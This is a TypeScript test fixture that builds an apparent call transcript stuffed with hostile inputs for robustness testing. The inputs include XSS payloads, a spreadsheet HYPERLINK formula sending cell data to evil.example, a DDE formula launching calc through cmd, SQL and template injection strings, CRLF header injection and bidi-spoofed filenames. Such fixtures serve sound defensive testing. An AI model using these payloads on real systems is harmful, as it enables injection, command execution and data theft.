import { agent, customer, type CallScript } from './script';

const characters = (from: number, to: number) =>
	Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index)).join('');

const SCRIPT = '<script>alert("script")</script>';
const IMAGE = '<img src=x onerror="alert(1)">';
const ATTRIBUTE = `" onmouseover="alert(2)" x='`;
const CLOSERS = '</style></textarea></title>]]>--></script><!--';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
/** U+0000 to U+001F, U+007F to U+009F, and the separators that JavaScript takes for line ends. */
const CONTROLS = `${characters(0x00, 0x1f)}${characters(0x7f, 0x9f)}\u2028\u2029\ufeff`;
const EMOJI = '👩‍👩‍👧‍👦 🏳️‍🌈 🧑🏽‍💻 🇺🇳 é̂̃';
/** Turned round by an override, and in isolates that nobody closes. */
const TURNED = '\u202Egpj.exe\u202C \u2066left \u2067right';
const RIGHT_TO_LEFT = 'שלום <b>עולם</b> مرحبا بالعالم 123';
/** 100 KB without a place to break it. */
const LONG_WORD = 'W'.repeat(100 * 1024);

/** A call that says what breaks pages, tables, files and databases that take texts for granted. */
export const hostileCall: CallScript = {
	language: 'en-US',
	lines: [
		agent('friendly', `Hello ${SCRIPT}, how can I help you?`, 0.5),
		customer('angry', `My name is ${IMAGE} and ${ATTRIBUTE} is my password.`),
		agent('neutral', `So ${CLOSERS} is what you see?`),
		customer('frustrated', FORMULA),
		customer('frustrated', '+1-555-0100'),
		agent('neutral', "-2+3+cmd|' /C calc'!A0"),
		customer('neutral', '@SUM(1+1)*cmd'),
		agent('cautious', `It has${CONTROLS}control characters.`),
		customer('cheerful', `We are ${EMOJI}.`),
		agent('surprised', `The file is called ${TURNED}, is it?`),
		customer('thankful', RIGHT_TO_LEFT),
		agent('neutral', LONG_WORD),
		customer('stressed', `Robert'); DROP TABLE Calls;-- \\ %s %00 \${7*7} {{7*7}} $1 \\u0041`),
		agent('cheerful', `javascript:alert(3) [click](javascript:alert(4)) \r\nX-Header: injected`),
	],
	findings: {
		summary: [
			`The customer said ${SCRIPT}${IMAGE}.`,
			FORMULA,
			CLOSERS,
			`Characters:${CONTROLS}end`,
			`${EMOJI} ${TURNED} ${RIGHT_TO_LEFT}`,
			LONG_WORD,
		],
		agentActions: [`Opened ${IMAGE}`, '+1-555-0100', '-2+3', '@SUM(1+1)', 'Line one\r\nLine two'],
		customerRequests: [`Stop ${SCRIPT}`, `${ATTRIBUTE}`],
		questions: [`So ${CLOSERS} is what you see?`],
		topics: [SCRIPT, FORMULA, RIGHT_TO_LEFT],
		labels: ['other'],
		keywords: ['<script>', '=HYPERLINK', 'onerror="alert(1)">', '👩‍👩‍👧‍👦', LONG_WORD],
		csat: { csat: 1, reason: `${SCRIPT}${ATTRIBUTE}${CONTROLS}` },
		emotionalScore: 0,
		turningPoints: [2, 10],
		problems: [
			{
				title: `${SCRIPT}${ATTRIBUTE}`,
				line: 1,
				solvedBy: 10,
				resolution: `${IMAGE}${CONTROLS}${TURNED}`,
			},
			{ title: FORMULA, line: 3, solvedBy: null, resolution: null },
		],
	},
};
